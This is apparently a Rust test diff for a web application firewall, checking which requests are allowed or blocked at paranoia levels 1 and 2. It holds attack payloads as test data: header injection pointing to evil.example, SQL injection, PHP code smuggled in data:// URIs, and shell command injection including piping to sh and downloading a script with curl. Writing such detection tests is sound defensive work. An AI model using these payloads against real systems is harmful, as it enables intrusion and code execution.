@@ -773,3 +773,96 @@ fn xml_and_multipart_bodies() {
         assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
     }
 }
+
+/// The PL1 line drawn where CRS draws it, by grammar: a header injection needs a header
+/// with a value; a body sent without `Content-Type` is read for attacks but is no form, so a
+/// `%` in its text is no bad escape; a call that only reads a file's timestamp or size and a
+/// `data://` document without markup run nothing. The attacks next to them still count.
+#[test]
+fn paranoia_1_stops_where_the_attack_grammar_stops() {
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    let get = |q: &str| {
+        let uri = format!("/page?{q}");
+        engine.inspect(&Request::new("GET", &uri).with_headers(&host))
+    };
+    let raw_post = |body: &str| {
+        engine.inspect(
+            &Request::new("POST", "/notes")
+                .with_headers(&host)
+                .with_body(body.as_bytes()),
+        )
+    };
+    for (what, a) in [
+        ("empty header line", get("next=%0D%0ASet-Cookie:%0D%0A")),
+        (
+            "percent in prose",
+            raw_post("Members save up to 40% on orders (valid 30% of the time)."),
+        ),
+        ("file size", get("expr=filesize(%24upload)")),
+        (
+            "file time",
+            get("expr=date(%27Y%27%2C%20filectime(%24path))"),
+        ),
+        ("inert data://", get("src=data://text/plain,hello%20world")),
+        (
+            "inert data:// in base64",
+            get("src=data://text/plain;base64,aGVsbG8gd29ybGQ="),
+        ),
+    ] {
+        assert_eq!(a.verdict, Verdict::Allow, "{what}: {a:?}");
+    }
+    for (what, a) in [
+        (
+            "header with a value",
+            get("next=%0D%0ALocation:%20https://evil.example/"),
+        ),
+        ("sqli in a raw body", raw_post("note=x' or '1'='1' -- ")),
+        ("file read", get("expr=file_get_contents(%24path)")),
+        (
+            "data:// carrying PHP",
+            get("src=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
+        ),
+        (
+            "data:// carrying PHP in clear",
+            get("src=data://text/plain,%3C?php%20phpinfo();%20?%3E"),
+        ),
+    ] {
+        assert_eq!(a.verdict, Verdict::Block, "{what}: {a:?}");
+    }
+}
+
+/// A whole value that is a program and the host it is aimed at (`dig example.org`) holds
+/// no shell syntax: paranoia 2. An option, a separator or a second command keeps it at 1.
+#[test]
+fn program_and_target_alone_is_paranoia_2() {
+    let pl2 = Config {
+        paranoia_level: 2,
+        ..Config::default()
+    }
+    .compile()
+    .unwrap();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for v in [
+        "traceroute 10.20.30.40",
+        "dig mail.example.org",
+        "curl api.example.org/v2/status",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
+        });
+        let uri = format!("/tools?q={}", enc(v));
+        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
+    }
+    for v in [
+        "traceroute -n 10.20.30.40",
+        "dig mail.example.org; id",
+        "nslookup x.example|sh",
+        "curl api.example.org/x.sh -o /tmp/x",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
+        });
+    }
+}
